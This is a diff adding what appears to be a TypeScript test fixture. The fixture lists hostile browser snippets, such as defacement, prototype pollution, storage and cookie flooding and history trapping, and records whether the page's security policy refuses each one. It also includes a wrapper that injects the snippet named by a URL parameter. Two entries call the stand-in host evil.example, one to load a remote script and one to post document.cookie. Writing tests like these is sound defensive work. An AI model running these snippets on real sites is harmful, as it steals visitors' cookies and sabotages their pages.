@@ -1,0 +1,114 @@
+/** What a release may try in the document of a page of its own. */
+interface BrowserAttack {
+  /** The body of an async function; what the browser refuses, it throws. */
+  code: string;
+  /**
+   * `refused`: the document stays as it was. `done`: the document is lost to it, but no other. `hangs`: the same, and
+   * the tab cannot even be told to go elsewhere.
+   */
+  outcome: 'refused' | 'done' | 'hangs';
+}
+
+const fill = (storage: string) =>
+  `for (let size = 1e6, at = 0; size >= 1; at++) try { ${storage}.setItem('hostile' + at, 'x'.repeat(size)); } catch { size /= 10; }`;
+
+export const browserAttacks: Record<string, BrowserAttack> = {
+  // What the policy of pages forbids
+  'registers a service worker': {
+    code: 'await navigator.serviceWorker.register(entry);',
+    outcome: 'refused',
+  },
+  'starts a worker': {
+    code: 'await new Promise((resolve, reject) => { new Worker(entry).onerror = reject; });',
+    outcome: 'refused',
+  },
+  'writes over the document': { code: 'document.write("<h1>DEFACED</h1>");', outcome: 'refused' },
+  'puts HTML into the page': {
+    code: 'document.body.innerHTML = "<h1>DEFACED</h1>";',
+    outcome: 'refused',
+  },
+  'runs text as code': { code: 'new Function("document.body.remove()")();', outcome: 'refused' },
+  'makes a policy of its own': {
+    code: 'trustedTypes.createPolicy("hostile", { createHTML: (text) => text });',
+    outcome: 'refused',
+  },
+  'loads a script from elsewhere': {
+    code: 'document.head.appendChild(document.createElement("script")).src = "https://evil.example/x.js";',
+    outcome: 'refused',
+  },
+  'sends what it finds to another server': {
+    code: 'await fetch("https://evil.example/", { method: "POST", body: document.cookie });',
+    outcome: 'refused',
+  },
+  // What only another document ends
+  'loops without end': { code: 'for (;;);', outcome: 'hangs' },
+  'fills memory': {
+    code: 'const all = []; setInterval(() => all.push(new Array(1e5).fill(all.length)), 1);',
+    outcome: 'done',
+  },
+  'throws at every event': {
+    code: `for (const type of ['click', 'keydown', 'scroll', 'pointermove'])
+      addEventListener(type, () => { throw new Error('hostile'); }, true);`,
+    outcome: 'done',
+  },
+  'patches what all code uses': {
+    code: `Array.prototype.map = () => ['DEFACED']; JSON.parse = () => 'DEFACED'; Promise.prototype.then = () => {};
+      fetch = async () => new Response('DEFACED'); Object.prototype.polluted = 'DEFACED';`,
+    outcome: 'done',
+  },
+  'swallows what visitors do': {
+    code: `for (const type of ['click', 'keydown', 'pointerdown', 'submit', 'input'])
+      addEventListener(type, (event) => { event.preventDefault(); event.stopImmediatePropagation(); }, true);`,
+    outcome: 'done',
+  },
+  'traps the history': {
+    code: `const stay = () => history.pushState(null, '', location.href);
+      addEventListener('popstate', stay); for (let i = 0; i < 50; i++) stay();`,
+    outcome: 'done',
+  },
+  'fills the document': {
+    code: 'for (let i = 0; i < 1e5; i++) document.body.append(document.createElement("hr"));',
+    outcome: 'done',
+  },
+  'removes the document': { code: 'document.documentElement.remove();', outcome: 'done' },
+  // What outlives the document
+  'fills the storage': {
+    code: fill('localStorage') + fill('sessionStorage'),
+    outcome: 'done',
+  },
+  'stores nonsense under the keys of others': {
+    code: `const keys = [...Object.keys(localStorage), ...Object.keys(sessionStorage), 'name-logged-in', 'sign-out-pending',
+        'draft-add-conference', 'scroll-positions'];
+      for (const storage of [localStorage, sessionStorage]) for (const key of keys) storage.setItem(key, '{"');`,
+    outcome: 'done',
+  },
+  'fills the caches': {
+    code: `const cache = await caches.open('hostile');
+      for (const path of ['/', '/courses', '/about']) await cache.put(path, new Response('DEFACED'));`,
+    outcome: 'done',
+  },
+  'sets more cookies than a server reads': {
+    code: 'for (let i = 0; i < 60; i++) document.cookie = "hostile" + i + "=" + "x".repeat(3900) + ";path=/;max-age=9999";',
+    outcome: 'done',
+  },
+};
+
+/** The parameter of a page's URL that names the attack to begin. */
+export const attackParameter = 'attack';
+
+/** The entry of a remote, which begins the attack that the URL names, and tells the console of it. */
+export function withBrowserAttacks(text: string): string {
+  const attacks = Object.entries(browserAttacks).map(
+    ([name, { code }]) => `${JSON.stringify(name)}: async (entry) => {${code}}`,
+  );
+  return `${text};(async () => {
+    const attacks = {${attacks.join(',\n')}};
+    const { src } = document.currentScript;
+    const attack = attacks[new URLSearchParams(location.search).get('${attackParameter}')];
+    console.info('attack evaluated');
+    if (!attack) return;
+    console.info('attack begun');
+    try { await attack(src); } catch { return console.info('attack refused'); }
+    console.info('attack done');
+  })();`;
+}
